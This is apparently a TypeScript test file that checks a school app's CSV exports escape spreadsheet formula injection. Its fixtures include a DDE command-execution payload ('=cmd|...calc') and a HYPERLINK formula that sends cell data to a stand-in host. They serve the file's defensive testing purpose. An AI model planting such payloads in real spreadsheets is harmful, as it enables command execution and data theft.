/**
 * Every CSV the app writes, read back as the file the browser would save: a cell a spreadsheet
 * would run as a formula (= + - @, a tab or CR before one, the full-width forms) starts with a
 * single quote, so Excel shows it as text. The writers: the shared `csvText`, the people list
 * export, the import's one-time passwords and the fees reports (the defaulters list).
 */
import { screen, within } from '@testing-library/react';
import { http, HttpResponse } from 'msw';
import { csvText } from '@/api/csv';
import { ADMIN, fakeAuthServer, renderApp, server } from './helpers';

const ATTACK = "=cmd|' /C calc'!A0";

/** The text of every CSV file handed to the browser as a download, in order. */
function captureDownloads(): string[] {
  const saved: Blob[] = [];
  const texts: string[] = [];
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    saved.push(blob as Blob);
    return `blob:test/${saved.length}`;
  });
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    const blob = saved[Number(this.href.split('/').pop()) - 1];
    void blob.text().then((t) => texts.push(t));
  });
  return texts;
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('csvText, the one CSV writer', () => {
  it.each([
    [ATTACK, `"'=cmd|' /C calc'!A0"`],
    ['=HYPERLINK("http://x.example/?"&A1,"Click")', `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`],
    ['+8801711000001', `"'+8801711000001"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['=1\n=2', `"'=1\n=2"`],
  ])('writes %j as %s', async (cell, written) => {
    expect(await csvText([['name'], [cell]])).toBe(`\uFEFFname\r\n${written}\r\n`);
  });

  it.each([
    ['Rahim Uddin', 'Rahim Uddin'],
    ['Abu-Bakr', 'Abu-Bakr'],
    ['সাকিব আহমেদ', 'সাকিব আহমেদ'],
    ['-250.50', '-250.50'],
    ['1250.50', '1250.50'],
    ['rafi@example.com', 'rafi@example.com'],
    ['', ''],
  ])('leaves %j as it is', async (cell, written) => {
    expect(
      await csvText([
        ['name', 'n'],
        [cell, '1'],
      ]),
    ).toBe(`\uFEFFname,n\r\n${written},1\r\n`);
  });
});

describe('the CSV downloads', () => {
  it('the teacher list export quotes a name that would run', async () => {
    fakeAuthServer(ADMIN).savedSignIn();
    const files = captureDownloads();
    server.use(
      http.get('/api/teacher/all', () =>
        HttpResponse.json(
          [
            {
              id: 2,
              initial: 'NJH',
              full_name: ATTACK,
              teacher_code: 'T-2',
              mobile: '01911000091',
              designation: '@Lecturer',
              email: '',
            },
          ],
          { headers: { 'x-total-count': '1' } },
        ),
      ),
    );
    const { user } = renderApp('/add-teacher');
    await screen.findByRole('table', { name: /Teacher Id/ });
    await user.click(screen.getByRole('button', { name: 'Export to CSV' }));
    await vi.waitFor(() => expect(files).toHaveLength(1));
    expect(files[0].split('\r\n')[1]).toBe(`T-2,"'=cmd|' /C calc'!A0",01911000091,"'@Lecturer",`);
  });

  it('the one-time passwords of an import quote a name that would run', async () => {
    fakeAuthServer(ADMIN).savedSignIn();
    const files = captureDownloads();
    server.use(
      http.get('/api/section/all', () =>
        HttpResponse.json([
          { id: 61, section_default_name: 'A', class_id: 6, class_name: 'Six', shift_id: 1, school_info_id: 10 },
        ]),
      ),
      http.get('/api/session', () => HttpResponse.json([{ id: 2, session_year: '2026', current: true }])),
      http.get('/api/groups/all', () => HttpResponse.json([])),
      http.get('/api/gender', () => HttpResponse.json([])),
      http.get('/api/student/all', () => HttpResponse.json([], { headers: { 'x-total-count': '0' } })),
      http.post('/api/student/import', ({ request }) => {
        const dryRun = new URL(request.url).searchParams.get('dry_run') === 'true';
        return HttpResponse.json({
          ok: true,
          dry_run: dryRun,
          rows: 1,
          errors: [],
          message: dryRun ? 'No problems found' : 'Imported.',
          // A name kept from before the entry rule: the file must still not run it.
          accounts: dryRun ? [] : [{ user_code: 'IMP-1', name: ATTACK, initial_password: 'Aa1Bb2Cc3Dd4' }],
        });
      }),
    );
    const { user } = renderApp('/add-student');
    const input = await screen.findByLabelText('CSV file');
    const csv = 'student_code,first_name,class,section,roll\nIMP-1,Rafi,Six,A,1\n';
    await user.upload(input, new File([csv], 'students.csv', { type: 'text/csv' }));
    await user.click(await screen.findByRole('button', { name: 'Import 1 rows' }));
    await user.click(await screen.findByRole('button', { name: 'Download the one-time passwords (CSV)' }));
    await vi.waitFor(() => expect(files).toHaveLength(1));
    expect(files[0].split('\r\n')[1]).toBe(`IMP-1,"'=cmd|' /C calc'!A0",Aa1Bb2Cc3Dd4`);
  });

  it('the defaulters report quotes a name that would run and keeps amounts as numbers', async () => {
    fakeAuthServer(ADMIN).savedSignIn();
    const files = captureDownloads();
    server.use(
      http.get('/api/section/all', () => HttpResponse.json([])),
      http.get('/api/session', () => HttpResponse.json([{ id: 2, session_year: '2026', current: true }])),
      http.get('/api/groups/all', () => HttpResponse.json([])),
      http.get('/api/gender', () => HttpResponse.json([])),
      http.get('/api/fee/report/defaulters', () =>
        HttpResponse.json({
          rows: [
            {
              student_id: 5,
              student_code: 'S-0005',
              full_name: '+HYPERLINK("http://x.example")',
              class_name: 'Six',
              section_default_name: 'A',
              class_roll_no: 7,
              invoices: 2,
              due: '1250.50',
              oldest_last_date: '2026-01-31',
            },
          ],
          total: 1,
          limit: 500,
          offset: 0,
        }),
      ),
    );
    const { user } = renderApp('/payment?tab=reports&report=defaulters');
    const table = await screen.findByRole('table', { name: 'Defaulters' });
    expect(within(table).getByText('S-0005')).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Export CSV' }));
    await vi.waitFor(() => expect(files).toHaveLength(1));
    expect(files[0].split('\r\n')[1]).toBe(`S-0005,"'+HYPERLINK(""http://x.example"")",Six,A,7,2026-01-31,1250.50`);
  });
});
